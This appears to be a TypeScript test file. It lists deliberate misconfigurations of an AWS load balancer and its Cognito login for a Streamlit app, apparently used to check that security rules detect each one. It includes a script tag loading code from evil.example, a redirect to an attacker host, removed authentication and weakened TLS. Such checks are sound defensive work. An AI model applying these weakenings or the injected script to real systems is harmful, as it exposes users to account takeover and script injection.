import { types } from "../../../declared/types";
import { add, edit, idOf, remove, together, whatever, type Mutation } from "../mutation";

const page = [types.listenerRule, "streamlit-page"] as const;
const machine = [types.listenerRule, "streamlit-machine"] as const;
const signedOut = [types.listenerRule, "streamlit-signed-out"] as const;
const https = [types.listener, "streamlit-https"] as const;
const http = [types.listener, "streamlit-http"] as const;
const balancer = [types.loadBalancer, "streamlit"] as const;

const login = ["actions", 0, "authenticateCognito"] as const;
const domain = "streamlit.example.com";
const scope = "openid email profile";
const forward = { type: "forward", targetGroupArn: "arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/x/1" };
const others = "arn:aws:elasticloadbalancing:us-east-1:999999999999:targetgroup/evil/1";
const refusal = { type: "fixed-response", fixedResponse: { statusCode: "403", contentType: "text/plain", messageBody: "Forbidden" } };

/** Listeners, rules and the load balancer itself. */
export const listenerMutations: readonly Mutation[] = [
    edit("dropped the page rule's login", "authenticate-before-forward", page, ["actions", 0], whatever, undefined),
    edit("forwarded people to somebody else's tasks", "own-target-groups", page, ["actions", 1, "targetGroupArn"], whatever, others),
    edit(
        "ran a script at the app's address for who signs out",
        "plain-pages",
        signedOut,
        ["actions", 0, "fixedResponse", "messageBody"],
        whatever,
        "<h1>You are signed out</h1><script src=https://evil.example/x.js></script>",
    ),
    edit("dropped the machine rule's login", "authenticate-before-forward", machine, ["actions", 0], whatever, undefined),
    add(
        "added a rule without a login by the type's other name",
        "authenticate-before-forward",
        ["aws:alb/listenerRule:ListenerRule", "streamlit-open"],
        page,
        (stack) => ({
            ...stack.one(...page).inputs,
            priority: 300,
            actions: [forward],
        }),
    ),
    add(
        "added a listener without a login by the type's other name",
        "authenticate-before-forward",
        ["aws:alb/listener:Listener", "streamlit-open"],
        https,
        (stack) => ({
            ...stack.one(...https).inputs,
            port: 8443,
            defaultActions: [forward],
        }),
    ),
    edit("forwarded before the login", "authenticate-before-forward", page, ["actions", 0, "order"], 1, 3),
    edit(
        "let strangers through to pages",
        "unauthenticated-refused",
        page,
        [...login, "onUnauthenticatedRequest"],
        "authenticate",
        "allow",
    ),
    edit("flipped deny to allow for scripts", "unauthenticated-refused", machine, [...login, "onUnauthenticatedRequest"], "deny", "allow"),
    edit(
        "flipped deny to authenticate for scripts",
        "scripts-get-401",
        machine,
        [...login, "onUnauthenticatedRequest"],
        "deny",
        "authenticate",
    ),
    edit("refused pages without a way to sign in", "scripts-get-401", page, [...login, "onUnauthenticatedRequest"], "authenticate", "deny"),
    remove("removed the machine rule", "scripts-get-401", machine),
    remove("removed the page rule", "scripts-get-401", page),
    edit("moved the scripts' path", "scripts-get-401", machine, ["conditions", 1, "pathPattern", "values", 0], "/_stcore/*", "/stcore/*"),
    edit(
        "sent the question whether a session lives to the login",
        "scripts-get-401",
        machine,
        ["conditions", 1, "pathPattern", "values", 1],
        "/_session",
        undefined,
    ),
    edit(
        "sent the script that asks for the session to the login",
        "scripts-get-401",
        machine,
        ["conditions", 1, "pathPattern", "values", 2],
        "/_session/*",
        undefined,
    ),
    together("swapped the priorities of the page and the machine rule", "no-shadowed-rule", [
        edit("", "", page, ["priority"], 200, 100),
        edit("", "", machine, ["priority"], 100, 200),
    ]),
    together("swapped the priorities of the page and the signed-out rule", "no-shadowed-rule", [
        edit("", "", page, ["priority"], 200, 50),
        edit("", "", signedOut, ["priority"], 50, 200),
    ]),
    edit("gave two rules one priority", "no-shadowed-rule", machine, ["priority"], 100, 200),
    edit(
        "let the signed-out page take every path",
        "open-pages-are-exact",
        signedOut,
        ["conditions", 1, "pathPattern", "values", 0],
        "/signed-out",
        "/*",
    ),
    edit(
        "opened every page below the signed-out one",
        "open-pages-are-exact",
        signedOut,
        ["conditions", 1, "pathPattern", "values", 0],
        "/signed-out",
        "/signed-out*",
    ),
    edit("let the signed-out rule forward", "authenticate-before-forward", signedOut, ["actions", 0, "type"], "fixed-response", "forward"),
    edit("let the signed-out rule redirect", "open-pages-are-exact", signedOut, ["actions", 0, "type"], "fixed-response", "redirect"),
    edit("served any host name", "host-in-every-rule", page, ["conditions", 0, "hostHeader", "values", 0], domain, "*.example.com"),
    edit(
        "dropped the machine rule's host",
        "host-in-every-rule",
        machine,
        ["conditions", 0],
        { hostHeader: { values: [domain] } },
        undefined,
    ),
    edit("forwarded by default", "default-action-denies", https, ["defaultActions", 0], refusal, forward),
    edit("answered 200 by default", "default-action-denies", https, ["defaultActions", 0, "fixedResponse", "statusCode"], "403", "200"),
    edit("forwarded plain HTTP", "http-only-redirects", http, ["defaultActions", 0, "type"], "redirect", "forward"),
    edit("redirected to any host", "http-only-redirects", http, ["defaultActions", 0, "redirect", "host"], domain, undefined),
    edit("redirected to another host", "http-only-redirects", http, ["defaultActions", 0, "redirect", "host"], domain, "evil.example.com"),
    edit("redirected to plain HTTP", "http-only-redirects", http, ["defaultActions", 0, "redirect", "protocol"], "HTTPS", "HTTP"),
    edit(
        "redirected for the time being",
        "http-only-redirects",
        http,
        ["defaultActions", 0, "redirect", "statusCode"],
        "HTTP_301",
        "HTTP_302",
    ),
    edit("turned TLS off", "http-only-redirects", https, ["protocol"], "HTTPS", "HTTP"),
    edit("hung a rule on the HTTP listener", "http-only-redirects", page, ["listenerArn"], whatever, idOf(http)),
    edit("admitted TLS 1.0", "tls-policy", https, ["sslPolicy"], whatever, "ELBSecurityPolicy-2016-08"),
    edit(
        "admitted ciphers without forward secrecy",
        "tls-policy",
        https,
        ["sslPolicy"],
        whatever,
        "ELBSecurityPolicy-TLS13-1-2-Ext2-2021-06",
    ),
    edit("left the TLS policy to AWS", "tls-policy", https, ["sslPolicy"], whatever, undefined),
    edit(
        "let browsers forget HTTPS",
        "response-headers",
        https,
        ["routingHttpResponseStrictTransportSecurityHeaderValue"],
        "max-age=31536000",
        "max-age=0",
    ),
    edit(
        "let browsers guess content types",
        "response-headers",
        https,
        ["routingHttpResponseXContentTypeOptionsHeaderValue"],
        "nosniff",
        undefined,
    ),
    edit(
        "let other sites frame the app",
        "response-headers",
        https,
        ["routingHttpResponseXFrameOptionsHeaderValue"],
        "SAMEORIGIN",
        undefined,
    ),
    edit("let malformed headers through", "request-hygiene", balancer, ["dropInvalidHeaderFields"], true, false),
    edit("let ambiguous requests through", "request-hygiene", balancer, ["desyncMitigationMode"], "strictest", "monitor"),
    edit("closed idle websockets after 30 s", "idle-timeout", balancer, ["idleTimeout"], 300, 30),
    edit("set no idle timeout at all", "idle-timeout", balancer, ["idleTimeout"], 300, undefined),
    edit("kept idle connections longer than AWS does", "idle-timeout", balancer, ["idleTimeout"], 300, 5000),
    edit(
        "signed people in with another pool",
        "sign-in-with-own-pool",
        page,
        [...login, "userPoolArn"],
        whatever,
        "arn:aws:cognito-idp:us-east-1:123456789012:userpool/us-east-1_other",
    ),
    edit("signed people in by another client", "sign-in-with-own-pool", machine, [...login, "userPoolClientId"], whatever, "another"),
    edit("sent people to another login page", "sign-in-with-own-pool", page, [...login, "userPoolDomain"], whatever, "somebody-else"),
    edit(
        "asked for the scope to change accounts",
        "least-scopes",
        page,
        [...login, "scope"],
        scope,
        `${scope} aws.cognito.signin.user.admin`,
    ),
    edit("did not ask who it is", "least-scopes", page, [...login, "scope"], scope, "email"),
    edit("let sessions last for a year", "session-bounded", page, [...login, "sessionTimeout"], 43_200, 31_536_000),
    edit("left the session's length to AWS", "session-bounded", machine, [...login, "sessionTimeout"], 43_200, undefined),
    edit("ended the rules' sessions at two times", "one-session", machine, [...login, "sessionTimeout"], 43_200, 3600),
    edit("gave the rules two session cookies", "one-session", machine, [...login, "sessionCookieName"], "AWSELBAuthSessionCookie", "Other"),
];
